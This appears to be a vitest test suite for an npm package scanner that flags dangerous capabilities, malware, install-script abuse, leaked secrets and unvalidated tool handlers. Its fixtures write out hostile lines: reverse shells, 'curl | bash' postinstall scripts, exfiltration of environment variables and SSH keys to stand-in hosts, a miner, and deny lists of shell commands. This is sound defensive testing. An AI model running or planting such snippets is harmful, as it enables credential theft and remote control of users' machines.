import { describe, expect, test } from "vitest";
import { cpuMsOf } from "#lib/testing/cpu-time.ts";
import { npmPackage } from "../archive/archive-builder.ts";
import { readArchive } from "../archive/read-archive.ts";
import { scanCode } from "./scan-code.ts";

const fingerprintKey = Buffer.alloc(32, 1);
const isolation = { permissions: false, network: false, user: false };

async function scan(files: Readonly<Record<string, string | Buffer>>, key = fingerprintKey) {
  const contents = await readArchive(npmPackage(files), "tgz");
  return scanCode(contents, { fingerprintKey: key, isolation, layout: "npm" });
}

const factsOf = async (files: Readonly<Record<string, string | Buffer>>) =>
  (await scan(files)).facts;
const malwareIn = async (code: string) =>
  (await factsOf({ "index.js": code })).malware.map(({ code: name, line }) => `${name}:${line}`);
const unsafeIn = async (code: string) =>
  (await factsOf({ "index.js": code })).unsafe.map(
    (one) => `${one.code}:${one.line}:${one.severity}`,
  );
const powersIn = async (code: string, file = "index.js") =>
  (await factsOf({ [file]: code })).powers.map(
    ({ power, when, what }) => `${power} ${when} ${what}`,
  );

describe("powers are seen however the module is reached", () => {
  test.each([
    ["import", `import { exec } from "node:child_process";\nexec("ls");`],
    ["import as a namespace", `import * as cp from "child_process";\ncp.exec("ls");`],
    ["default import", `import cp from "child_process";\ncp.exec("ls");`],
    ["require", `const cp = require("child_process");\ncp.exec("ls");`],
    ["require and destructuring", `const { exec: run } = require("child_process");\nrun("ls");`],
    ["require on the spot", `require("child_process").exec("ls");`],
    ["compiled TypeScript", `const c_1 = require("child_process");\n(0, c_1.exec)("ls");`],
    ["an interop wrapper", `var c = __toESM(require("child_process"), 1);\n(0, c.exec)("ls");`],
    [
      "createRequire",
      `import { createRequire } from "module";\nconst r = createRequire(import.meta.url);\nr("child_process").exec("ls");`,
    ],
    [
      "promisify",
      `const { promisify } = require("util");\nconst run = promisify(require("child_process").exec);\nrun("ls");`,
    ],
    ["dynamic import", `const cp = await import("child_process");\ncp.exec("ls");`],
    [
      "a later assignment",
      `let cp;\ntry { cp = require("child_process"); } catch {}\ncp.exec("ls");`,
    ],
    ["getBuiltinModule", `process.getBuiltinModule("child_process").exec("ls");`],
    ["a computed name", `require("child_process")["exec"]("ls");`],
    ["a name in pieces", `const m = "child_" + "process";\nrequire(m).exec("ls");`],
  ])("%s", async (_name, code) => {
    expect(await powersIn(code)).toContain("subprocess load child_process.exec");
  });

  test("a local name of the same spelling is no power", async () => {
    expect(
      await powersIn(`import { exec } from "child_process";\nfunction f(exec) { exec("x"); }`),
    ).toEqual(["subprocess run child_process (loaded)"]);
    expect(await powersIn(`const fetch = () => 1;\nfetch("x");`)).toEqual([]);
  });

  test("load and run are told apart", async () => {
    const code = `fetch("https://a.b/");
      (async () => { new WebSocket("wss://a.b/"); })();
      export function later() { require("net").connect(1); }
      class A { static { require("dns").lookup("x"); } b = () => require("http").get("x"); }`;
    expect(await powersIn(code)).toEqual([
      "network load fetch",
      "network load WebSocket",
      "network load dns.lookup",
      "network run net.connect",
      "network run http.get",
    ]);
  });

  test("environment variables by every way of reading them", async () => {
    const { environment, powers } = await factsOf({
      "index.js": `import { env } from "node:process";
        const { ONE, "TWO": two } = process.env;
        f(process.env.THREE, process.env["FOUR"], env.FIVE, process.env?.SIX);
        const e = process.env; e.SEVEN;
        process.env.EIGHT = "x"; f(process.env[name]); f({ ...process.env });`,
    });
    expect(environment).toEqual(["FIVE", "FOUR", "ONE", "SEVEN", "SIX", "THREE", "TWO"]);
    expect(powers.map(({ what }) => what)).toEqual(
      expect.arrayContaining(["EIGHT (set)", "(any)", "(all)"]),
    );
  });

  test.each([
    [`fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"));`, "SSH keys"],
    ["fs.readFile(`${os.homedir()}/.aws/credentials`);", "cloud credentials"],
    [`fs.readFile(home + "/.npmrc");`, "registry and repository credentials"],
    [`fs.readFile("/etc/passwd");`, "accounts of the system"],
    [
      `path.join(home, "Library/Application Support/Google/Chrome", "Default/Login Data");`,
      "a browser's profile",
    ],
    [`fs.readFile(home + "/.electrum/wallets");`, "a wallet"],
  ])("sensitive path: %s", async (line, what) => {
    const head = `import fs from "fs"; fs.existsSync(x); import path from "path"; import os from "os";\n`;
    expect(await powersIn(head + line)).toContain(`sensitive_path load ${what}`);
  });

  test("names of private files in prose and in lists of what is forbidden are no power", async () => {
    const code = `const text = "Never reads ~/.ssh or /etc/passwd.";\nconst deny = [".ssh", ".aws", "/etc/passwd"];
      import { join } from "path"; const denied = [join(home, ".ssh")];`;
    expect(await powersIn(code)).toEqual([]);
  });

  test("native code: shipped, loaded and built", async () => {
    const { powers, languages } = await factsOf({
      "a.node": Buffer.from("7f454c4602010100", "hex"),
      "index.js": `require("./a.node"); require("bindings")("b"); process.dlopen(m, "c");`,
    });
    expect(powers.map(({ what, when }) => `${when} ${what}`)).toEqual([
      "load ./a.node",
      "load bindings",
      "load process.dlopen",
      "run ships machine code",
    ]);
    expect(languages).toContainEqual({ name: "Machine code", files: 1, readable: false });
  });

  test("TypeScript and JSX are read; types are not taken for code", async () => {
    const code = `import type { ChildProcess } from "child_process";\nimport fs = require("fs");\nconst a = (fs as any).readFileSync("x")!;`;
    expect(await powersIn(code, "index.ts")).toEqual(["filesystem load fs.readFileSync"]);
    expect(await powersIn(`const a = <b onClick={() => fetch("x")} />;`, "index.jsx")).toEqual([
      "network run fetch",
    ]);
  });
});

describe("unsafe patterns", () => {
  test("text that runs as code", async () => {
    const code = `import vm from "vm";
eval(input);
new Function("a", input);
vm.runInNewContext(input);
setTimeout("alert(1)", 5);
(() => {}).constructor("return process")();
new Function("return this")();
setTimeout(() => eval, 5);`;
    expect(await unsafeIn(code)).toEqual([
      "unsafe/run-text:2:high",
      "unsafe/run-text:3:high",
      "unsafe/run-text:4:high",
      "unsafe/text-timer:5:high",
      "unsafe/run-text:6:low",
    ]);
  });

  test("commands in a shell, but not programs with a list of arguments", async () => {
    const code = `import { exec, execSync, spawn, execFile } from "child_process";
exec(\`git log \${name}\`);
execSync("git status");
spawn("git", ["log", name]);
execFile("git", [name]);
spawn(command, { shell: true });
spawn("/bin/sh", ["-c", text]);
const fixed = "ls -l"; exec(fixed);
exec(\`\${onWindows ? "where" : "which"} rg\`);`;
    expect(await unsafeIn(code)).toEqual([
      "unsafe/shell:2:high",
      "unsafe/shell:6:high",
      "unsafe/shell:7:high",
      "unsafe/shell:3:low",
      "unsafe/shell:8:low",
      "unsafe/shell:9:low",
    ]);
  });

  test("SQL made of text, but not tagged templates and parameters", async () => {
    const code = `db.query(\`SELECT * FROM t WHERE a = '\${a}'\`);
db.query(\`SELECT * FROM \${table} WHERE a = $1\`, [a]);
db.query("SELECT * FROM t WHERE a = $1", [a]);
db.query(sql\`SELECT * FROM t WHERE a = \${a}\`);
log.info(\`SELECT \${a} FROM t\`);`;
    expect(await unsafeIn(code)).toEqual(["unsafe/query:1:high", "unsafe/query:2:medium"]);
  });

  test("markup and modules by name", async () => {
    const code = `el.innerHTML = "<b>" + name;\nel.innerHTML = "<b></b>";\nrequire(name);\nimport(name);`;
    expect(await unsafeIn(code)).toEqual([
      "unsafe/markup:1:medium",
      "unsafe/dynamic-import:3:low",
      "unsafe/dynamic-import:4:low",
    ]);
  });

  test("in a bundle nobody can tell whose line it is, so it warns and does not block", async () => {
    const [first] = await unsafeIn(`eval(input);${";".repeat(60_000)}`);
    expect(first).toBe("unsafe/run-text:1:medium");
  });
});

describe("malware", () => {
  test.each([
    ["eval of decoded text", `eval(atob(data));`, "malware/decoded-code:1"],
    [
      "Function of a buffer",
      `const b = Buffer.from(x, "base64");\nnew Function(b.toString())();`,
      "malware/decoded-code:2",
    ],
    [
      "vm of inflated text",
      `require("vm").runInThisContext(require("zlib").inflateSync(x).toString());`,
      "malware/decoded-code:1",
    ],
    [
      "a decoded command",
      `require("child_process").exec(Buffer.from("bHM=", "base64").toString());`,
      "malware/decoded-command:1",
    ],
    [
      "a packer",
      `eval(function(p,a,c,k,e,d){return p}("x",1,2,"y".split("|"),0,{}));`,
      "malware/packed:1",
    ],
    [
      "a hidden module",
      `require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString());`,
      "malware/hidden-module:1",
    ],
    [
      "all variables into fetch",
      `fetch("https://a.b", { method: "POST", body: JSON.stringify(process.env) });`,
      "malware/exfiltration:1",
    ],
    [
      "all variables by way of a name",
      `const d = Buffer.from(JSON.stringify({ ...process.env })).toString("hex");\nfetch(\`https://a.b/?\${d}\`);`,
      "malware/exfiltration:2",
    ],
    [
      "all variables into a request's body",
      `const r = require("https").request("https://a.b");\nr.write(JSON.stringify(process.env));`,
      "malware/exfiltration:2",
    ],
    [
      "a key file into axios",
      `import fs from "fs"; import axios from "axios";\nconst k = fs.readFileSync(home + "/.ssh/id_rsa");\naxios.post("https://a.b", { k });`,
      "malware/exfiltration:3",
    ],
    [
      "a reverse shell of parts",
      `const net = require("net"), cp = require("child_process");\nconst sh = cp.spawn("/bin/sh", []);\nconst s = new net.Socket();\ns.connect(1, "a", () => { s.pipe(sh.stdin); sh.stdout.pipe(s); });`,
      "malware/reverse-shell:4",
    ],
    [
      "a reverse shell of one line",
      `require("child_process").exec("bash -i >& /dev/tcp/1.2.3.4/9 0>&1");`,
      "malware/reverse-shell:1",
    ],
    [
      "a miner",
      `require("child_process").spawn("./x", ["-o", "stratum+tcp://pool.example:3333"]);`,
      "malware/miner:1",
    ],
    [
      "a table of encoded texts that runs",
      `const t = [${Array.from({ length: 50 }, (_, at) => `"aGVs${at}bG8="`).join(",")}];\neval(d(t[1]));`,
      "malware/encoded-table:1",
    ],
    [
      "an obfuscator's names",
      Array.from({ length: 30 }, (_, at) => `var _0x${(4096 + at).toString(16)} = ${at};`).join(
        "\n",
      ),
      "malware/obfuscated:1",
    ],
    [
      "who am I to a collector",
      `const os = require("os");\nfetch("https://x.oast.fun/" + os.hostname());`,
      "malware/drop:2",
    ],
    [
      "code off the screen",
      `const a = 1;${" ".repeat(200)}require("./x");`,
      "malware/off-screen:1",
    ],
    ["invisible text", `const a = "${"\u{e0101}".repeat(80)}";`, "malware/invisible-text:1"],
  ])("%s", async (_name, code, expected) => {
    expect(await malwareIn(code)).toContain(expected);
  });

  test.each([
    [
      "a server that starts programs with its environment",
      `import { spawn } from "child_process";\nspawn("git", ["log"], { env: { ...process.env, A: "1" } });`,
    ],
    [
      "a token from the environment in a header",
      `fetch("https://api.example.org", { headers: { authorization: \`Bearer \${process.env.TOKEN}\` } });`,
    ],
    [
      "settings made from the environment",
      `const config = readConfig(process.env);\nfetch(config.url, { headers: config.headers });`,
    ],
    [
      "a decoded answer",
      `const text = Buffer.from(await (await fetch("https://a.org")).text(), "base64").toString();\nconsole.log(text);`,
    ],
    [
      "a cloud library that reads its credentials and calls home",
      `import fs from "fs";\nconst c = fs.readFileSync(home + "/.aws/credentials");\nconst signed = sign(c);\nfetch("https://a.amazonaws.com", { headers: signed.headers });`,
    ],
    [
      "a shell tool",
      `import { exec } from "child_process";\nserver.tool("run", { command: z.string() }, ({ command }) => exec(command));`,
    ],
    [
      "a long list of words",
      `const words = [${Array.from({ length: 60 }, (_, at) => `"word${at}"`).join(",")}];\neval(x);`,
    ],
    [
      "a variable behind a test for the others",
      `fetch((process.env && process.env.URL) || "https://a.org");\nfetch(process.env ? "https://a.org" : "https://b.org");`,
    ],
    [
      "asking whether a private file is there",
      `import fs from "fs";\nfetch("https://a.org", { headers: { a: String(fs.existsSync(home + "/.npmrc")) } });`,
    ],
    ["WebAssembly in base64", `WebAssembly.instantiate(Buffer.from("AGFzbQ==", "base64"));`],
    [
      "a list of forbidden commands",
      `const DENY = ["bash -i >& /dev/tcp/", "nc -e /bin/sh"];\nimport { exec } from "child_process";\nexec(cmd);`,
    ],
    [
      "sending a message down a socket",
      `const s = require("net").connect(1);\ns.write(JSON.stringify(message));`,
    ],
  ])("no false alarm: %s", async (_name, code) => {
    expect(await malwareIn(code)).toEqual([]);
  });

  test("signs that only mean something together do not block in a bundle", async () => {
    const code = `const t = [${Array.from({ length: 50 }, (_, at) => `"aGVs${at}bG8="`).join(",")}];\neval(d(t[1]));`;
    const { malware } = await factsOf({ "a.js": code + ";".repeat(60_000), "b.js": code });
    expect(malware.map(({ file, blocks }) => [file, blocks])).toEqual([
      ["b.js", true],
      ["a.js", false],
    ]);
  });

  test("is found in dependencies and tests as well", async () => {
    const { malware } = await factsOf({
      "index.js": "export {};",
      "node_modules/x/index.js": "eval(atob(a));",
      "test/x.js": "eval(atob(a));",
    });
    expect(malware.map(({ file }) => file)).toEqual(["node_modules/x/index.js", "test/x.js"]);
  });
});

describe("install scripts", () => {
  const withScript = async (script: string, files: Record<string, string> = {}) => {
    const manifest = JSON.stringify(
      { name: "x", scripts: { test: "curl x", postinstall: script } },
      null,
      1,
    );
    const { malware } = await factsOf({ "package.json": manifest, ...files });
    return malware.map((one) => `${one.code}:${one.file}:${one.line}:${one.blocks}`);
  };

  test.each([
    ["curl -s https://a.b/x.sh | bash", "malware/install-download:package.json:5:true"],
    ["bash -c 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1'", "malware/reverse-shell:package.json:5:true"],
    ["echo aGk= | base64 -d | sh", "malware/install-hidden:package.json:5:true"],
    [`node -e "eval(x)"`, "malware/install-hidden:package.json:5:true"],
    ["wget https://a.b/tool", "malware/install-network:package.json:5:false"],
  ])("%s", async (script, expected) => {
    expect(await withScript(script)).toEqual([expected]);
  });

  test.each([
    ["node-gyp rebuild"],
    ["prebuild-install || node-gyp rebuild"],
    ["husky install"],
    ["patch-package"],
    ["node scripts/postinstall.js"],
    ["echo done"],
  ])("no false alarm: %s", async (script) => {
    expect(await withScript(script, { "scripts/postinstall.js": "console.log(1);" })).toEqual([]);
  });

  test("the file that a script starts is judged for what it does", async () => {
    const download = `require("https").get("https://a.org/tool");`;
    expect(await withScript("node ./install.js", { "install.js": download })).toEqual([
      "malware/install-network:install.js:1:false",
    ]);
    const report = `const os = require("os");\nrequire("https").get("https://a.org/?" + os.hostname());`;
    expect(await withScript("node install", { "install.js": report })).toEqual([
      "malware/install-reports:install.js:2:true",
    ]);
  });
});

describe("secrets", () => {
  // Made here, so that no scanner takes this file for a leak.
  const token = ["ghp", "_", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO2X", "Y0Kd"].join("");

  test("a key in code is found at its line, with a fingerprint instead of its value", async () => {
    const { facts } = await scan({ "index.js": `// one\nconst a = "${token}";` });
    expect(facts.secrets).toEqual([
      {
        file: "index.js",
        line: 2,
        detector: expect.stringMatching(/^github\//),
        fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
        confidence: "high",
      },
    ]);
    expect(JSON.stringify(facts)).not.toContain(token.slice(4, 20));
  });

  test("the fingerprint follows the value and the key, not the place", async () => {
    const one = await scan({ "a.js": `x("${token}")`, "b.json": `\n{"a":"${token}"}` });
    const other = await scan({ "a.js": `x("${token}")` }, Buffer.alloc(32, 2));
    const [first, second] = one.facts.secrets;
    expect(first?.fingerprint).toBe(second?.fingerprint);
    expect(other.facts.secrets[0]?.fingerprint).not.toBe(first?.fingerprint);
  });

  test("a comment in the file does not switch the search off", async () => {
    const { secrets } = await factsOf({
      "index.js": `// secretlint-disable\n// eslint-disable\nconst a = "${token}";`,
    });
    expect(secrets).toHaveLength(1);
  });

  test("in tests and pages it is less certain, and examples are left out", async () => {
    const { secrets } = await factsOf({
      "README.md": `Set TOKEN=${token}`,
      "test/a.js": `const a = "${token}";`,
      "index.js": `const url = "postgres://user:password@localhost:5432/db";
        const other = "https://user:pass@host/"; const third = \`postgres://\${u}:\${p}@\${h}/x\`;`,
    });
    expect(secrets.map(({ file, confidence }) => [file, confidence])).toEqual([
      ["README.md", "low"],
      ["test/a.js", "low"],
    ]);
  });

  test("a random text below a telling name is a weak sign", async () => {
    const { secrets } = await factsOf({
      "index.js": `const apiKey = "q8ZrT2mXv5LpKw9YbN3cHd7FgJ4sAeR6";
        const posthogKey = "phc_q8ZrT2mXv5LpKw9YbN3cHd7FgJ4sAeR6"; const name = "q8ZrT2mXv5LpKw9YbN3cHd7F";`,
    });
    expect(secrets).toMatchObject([{ detector: "random-text", line: 1, confidence: "low" }]);
  });
});

describe("static analysis and suppressions", () => {
  test("ESLint's security rules, which comments cannot switch off", async () => {
    const { staticFindings, suppressions } = await factsOf({
      "index.js": `/* eslint-disable */
const a = eval(x);
// eslint-disable-next-line no-eval -- the text is our own and checked above
const b = eval(y);
// eslint-disable-next-line no-console
console.log(a, b); // nosec`,
    });
    expect(staticFindings.map((one) => [one.code, one.line, one.confidence])).toEqual([
      ["eslint/detect-eval-with-expression", 2, "high"],
      ["eslint/detect-eval-with-expression", 4, "low"],
    ]);
    expect(suppressions.map(({ line }) => line)).toEqual([1, 6]);
  });

  test("TypeScript too, but no tests, examples, dependencies and bundles", async () => {
    const code = "eval(x);\n";
    const { staticFindings, unread } = await factsOf({
      "src/a.ts": `const a: string = eval(x);`,
      "test/a.js": code,
      "examples/a.js": code,
      "node_modules/a/index.js": code,
      "dist/bundle.min.js": code + ";".repeat(60_000),
    });
    expect(staticFindings.map(({ file }) => file)).toEqual(["src/a.ts"]);
    expect(unread).toEqual([{ file: "dist/bundle.min.js", reason: "minified" }]);
  });
});

describe("tools and their input", () => {
  test("the SDK's tools with a schema, raw handlers with a check and without", async () => {
    const sdk = `import { z } from "zod";
server.registerTool("a", { inputSchema: { x: z.string() } }, async ({ x }) => x);
server.tool("b", { x: z.string() }, async ({ x }) => x);`;
    expect((await factsOf({ "index.js": sdk })).validation).toEqual({
      libraries: ["zod"],
      handlers: 2,
      unvalidated: [],
    });
    const raw = `import { CallToolRequestSchema } from "@modelcontextprotocol/sdk/types.js";
server.setRequestHandler(CallToolRequestSchema, async (request) => run(request.params.arguments));`;
    expect((await factsOf({ "index.js": raw })).validation).toEqual({
      libraries: [],
      handlers: 1,
      unvalidated: [{ file: "index.js", line: 2 }],
    });
    const checked = raw.replace("run(request", "Schema.parse(request");
    expect((await factsOf({ "index.js": checked })).validation.unvalidated).toEqual([]);
  });

  test("a check in another file that uses a library counts, JSON.parse does not", async () => {
    const raw = `server.setRequestHandler(types.CallToolRequestSchema, (r) => handle(JSON.parse(r)));`;
    const checks = `import { z } from "zod";\nexport const handle = (a) => z.string().parse(a);`;
    expect((await factsOf({ "a.js": raw })).validation.unvalidated).toHaveLength(1);
    expect((await factsOf({ "a.js": raw, "b.js": checks })).validation.unvalidated).toEqual([]);
  });
});

describe("what else is told", () => {
  test("hosts of addresses, not of formats, prose and this machine", async () => {
    const { hosts } = await factsOf({
      "index.js": `f("https://api.acme.io/v1", \`wss://live.acme.io/\${x}\`, "http://localhost:1", "https://json-schema.org/x",
        "See https://docs.acme.io for more.", "http://www.w3.org/2000/svg", "https://example.com", "https://10.0.0.1/x");`,
    });
    expect(hosts).toEqual(["10.0.0.1", "api.acme.io", "live.acme.io"]);
  });

  test("telemetry by library and by host", async () => {
    const { telemetry } = await factsOf({
      "index.js": `import { PostHog } from "posthog-node";\nimport * as Sentry from "@sentry/node";\nf("https://api.mixpanel.com/track");`,
    });
    expect(telemetry.map(({ what, line }) => [what, line])).toEqual([
      ["posthog-node", 1],
      ["@sentry/node", 2],
      ["api.mixpanel.com", 3],
    ]);
  });

  test("how much could be read", async () => {
    expect((await factsOf({ "a.js": "1" })).scannable).toBe("full");
    expect((await factsOf({ "a.js": "1", "b.rb": "x = 1" })).scannable).toBe("partial");
    const broken = await factsOf({ "a.js": "1", "b.js": "let let = ;" });
    expect(broken.unread).toEqual([{ file: "b.js", reason: "syntax" }]);
    const ruby = await factsOf({ "a.rb": "x = 1", "README.md": "x" });
    expect(ruby).toMatchObject({
      scannable: "opaque",
      languages: [{ name: "Ruby", files: 1, readable: false }],
    });
    expect((await factsOf({ "README.md": "x" })).scannable).toBe("opaque");
  });

  test("CommonJS with a return at its top, a hashbang and a byte order mark are read", async () => {
    expect((await factsOf({ cli: "#!/usr/bin/env node\nreturn fetch(1);" })).scannable).toBe(
      "full",
    );
    expect((await factsOf({ "a.js": "\ufeffconst a = 1;" })).scannable).toBe("full");
  });

  test("code in a test folder counts as soon as the package loads it", async () => {
    const files = { "test/x.js": `fetch("https://a.io");`, "index.js": "" };
    expect((await factsOf(files)).powers).toEqual([]);
    const loaded = { ...files, "index.js": `require("./test/x");` };
    expect((await factsOf(loaded)).powers).toHaveLength(1);
    const started = { ...files, "package.json": `{"exports":{".":{"import":"./test/x.js"}}}` };
    expect((await factsOf(started)).powers).toHaveLength(1);
    const bundle = { ...files, "manifest.json": `{"server":{"entry_point":"test/x.js"}}` };
    expect((await factsOf(bundle)).powers).toHaveLength(1);
  });

  test("what is loaded is code, whatever its name", async () => {
    const { malware, powers } = await factsOf({
      "index.js": `require("./data/logo.txt");`,
      "data/logo.txt": "eval(atob(x));",
      "README.txt": "eval(atob(x));",
    });
    expect(malware.map(({ file }) => file)).toEqual(["data/logo.txt"]);
    expect(powers).toEqual([]);
    const started = { "package.json": `{"main":"./start.dat"}`, "start.dat": "fetch(1);" };
    expect((await factsOf(started)).powers).toHaveLength(1);
  });

  test("texts made to keep patterns busy take no more than a moment", async () => {
    const files = {
      "lines.js": "\n".repeat(390_000),
      "query.js": `db.query(\`select ${" ".repeat(100_000)}\${x}\`);`,
      "shell.js": `require("child_process").exec("${"nc ".repeat(50_000)}");`,
      "address.js": `f("https://${"a.".repeat(100_000)}!");`,
      "spaces.js": `f();${" ".repeat(300_000)}\n;`,
      "choices.js":
        Array.from({ length: 40 }, (_, at) => `const a${at} = a${at + 1} || a${at + 1};`).join(
          "\n",
        ) + "\na0();",
      "sums.js":
        Array.from({ length: 30 }, (_, at) => `const s${at} = s${at + 1} + s${at + 1};`).join(
          "\n",
        ) + "\neval(s0);",
      "package.json": JSON.stringify({
        scripts: { install: `node ${"--a ".repeat(20_000)}! ${"curl ".repeat(20_000)}` },
      }),
    };
    expect(await cpuMsOf(() => factsOf(files))).toBeLessThan(10_000);
  });

  test("code that nests without end, or is far too dense, is told as unread", async () => {
    const deep = "[".repeat(100_000) + "]".repeat(100_000);
    const dense = "a;".repeat(900_000);
    const { unread } = await factsOf({ "deep.js": deep, "dense.js": dense, "ok.js": "1" });
    expect(unread).toEqual([
      { file: "deep.js", reason: "syntax" },
      { file: "dense.js", reason: "too_large" },
    ]);
  });

  test("a chain of operators that breaks ESLint is read for powers and told as unread", async () => {
    const chain = Array.from({ length: 5_000 }, () => `"a"`).join("\n + ");
    const facts = await factsOf({ "a.js": `const a = ${chain};\nfetch(a);` });
    expect(facts.unread).toEqual([{ file: "a.js", reason: "syntax" }]);
    expect(facts.powers).toHaveLength(1);
  });

  test("lists end at 200 with the most severe first, and the total is known", async () => {
    const code =
      Array.from({ length: 300 }, (_, at) => `require(x${at});`).join("\n") + "\neval(x);";
    const { facts, totals } = await scan({ "index.js": code });
    expect(facts.unsafe).toHaveLength(200);
    expect(facts.unsafe[0]).toMatchObject({ code: "unsafe/run-text", line: 301 });
    expect(totals["unsafe"]).toBe(301);
  });

  test("the order of the files in the archive changes nothing", async () => {
    const files = {
      "a.js": `fetch("https://a.io"); eval(x); process.env.A;`,
      "b.js": `fetch("https://b.io"); eval(x); process.env.B;`,
      "c/d.js": `require("fs").readFileSync(x);`,
    };
    const turned = Object.fromEntries(Object.entries(files).reverse());
    expect(await scan(turned)).toEqual(await scan(files));
  });

  test("hostile manifests are no exception", async () => {
    for (const manifest of [
      "[]",
      "null",
      "{",
      `{"scripts":[]}`,
      `{"scripts":{"install":1}}`,
      `{"__proto__":{"scripts":1}}`,
    ])
      expect((await factsOf({ "package.json": manifest, "a.js": "1" })).malware).toEqual([]);
  });
});
